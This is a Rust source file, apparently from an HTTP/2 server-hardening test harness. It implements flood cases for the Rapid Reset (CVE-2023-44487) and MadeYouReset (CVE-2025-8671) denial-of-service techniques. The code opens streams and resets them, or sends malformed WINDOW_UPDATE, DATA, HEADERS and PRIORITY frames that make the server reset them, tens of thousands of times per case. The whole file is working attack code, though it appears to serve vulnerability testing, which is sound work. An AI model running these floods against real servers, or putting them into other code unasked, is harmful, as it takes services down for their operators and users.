//! Streams opened to be ended: rapid reset (CVE-2023-44487) and MadeYouReset
//! (CVE-2025-8671).

use super::flood;
use crate::attack::peer::Peer;
use crate::attack::report::Case;
use crate::attack::target::Target;
use crate::attack::wire::{self, frame};
use crate::pb::attack::v1::Ask;

fn hanging() -> Ask {
    Ask {
        text: "hang".to_owned(),
        ..Ask::default()
    }
}

/// H1.
pub(super) fn rapid_reset(target: &Target) -> Vec<Case> {
    let bare = |peer: &mut Peer, _| {
        let stream = peer.stream();
        let open = wire::headers(stream, &wire::call("/attack.v1.Target/Unary"), false);
        [open, wire::reset(stream)].concat()
    };
    // The handler runs by the time its stream is reset.
    let served = |peer: &mut Peer, _| {
        let call = peer.whole("Unary", &hanging());
        [call, wire::reset(peer.next - 2)].concat()
    };
    vec![
        flood(target, "HEADERS, RST_STREAM", 100_000, bare),
        flood(target, "HEADERS, DATA, RST_STREAM", 100_000, served),
    ]
}

/// H2. A call whose handler hangs, then a frame that makes the server reset it.
pub(super) fn made_you_reset(target: &Target) -> Vec<Case> {
    type Way = (&'static str, fn(u32) -> Vec<u8>);
    let ways: [Way; 6] = [
        ("WINDOW_UPDATE of 0", |id| wire::window(id, 0)),
        ("window overflow", |id| wire::window(id, wire::MAX)),
        ("DATA after END_STREAM", |id| {
            wire::data(id, b"late!", false)
        }),
        ("HEADERS after END_STREAM", |id| {
            wire::headers(id, &wire::call("/attack.v1.Target/Unary"), true)
        }),
        ("PRIORITY of 4 bytes", |id| {
            frame(wire::PRIORITY, 0, id, &[0; 4])
        }),
        ("PRIORITY on itself", |id| {
            let depends = id.to_be_bytes();
            frame(wire::PRIORITY, 0, id, &[&depends[..], &[0]].concat())
        }),
    ];
    let flooded = ways.into_iter().map(|(name, way)| {
        flood(target, name, 10_000, |peer, _| {
            let call = peer.whole("Unary", &hanging());
            [call, way(peer.next - 2)].concat()
        })
    });
    flooded.collect()
}
